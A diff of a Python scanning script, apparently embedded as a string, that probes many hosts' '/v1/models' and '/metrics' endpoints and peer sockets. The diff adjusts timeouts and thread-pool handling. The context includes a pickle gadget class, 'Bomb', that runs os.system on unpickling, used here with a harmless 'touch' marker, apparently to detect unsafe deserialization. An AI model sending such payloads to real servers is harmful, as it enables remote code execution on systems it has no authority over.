@@ -20,7 +20,7 @@ class Bomb:
         return (os.system, ("touch " + sys.argv[1],))
 def asked(address, path):
     try:
-        link = http.client.HTTPConnection(*address.rsplit(":", 1), timeout=1)
+        link = http.client.HTTPConnection(*address.rsplit(":", 1), timeout=5)
         link.request("GET", path)
         answer = link.getresponse()
         return "metrics" if answer.status == 200 and answer.read(6) in (b"# HELP", b"") else answer.status
@@ -35,8 +35,11 @@ def visit(address):
     peer.poll(1000)
     peer.close()
     return said
-with concurrent.futures.ThreadPoolExecutor(64) as pool:
-    print(json.dumps(dict(zip(sys.argv[2:], pool.map(visit, sys.argv[2:])))), flush=True)
+pool = concurrent.futures.ThreadPoolExecutor(64)
+visits = {address: pool.submit(visit, address) for address in sys.argv[2:]}
+concurrent.futures.wait(visits.values(), 120)
+nothing = {"/v1/models": "no end", "/metrics": "no end"}
+print(json.dumps({address: visit.result() if visit.done() else nothing for address, visit in visits.items()}), flush=True)
 os._exit(0)
 """
 
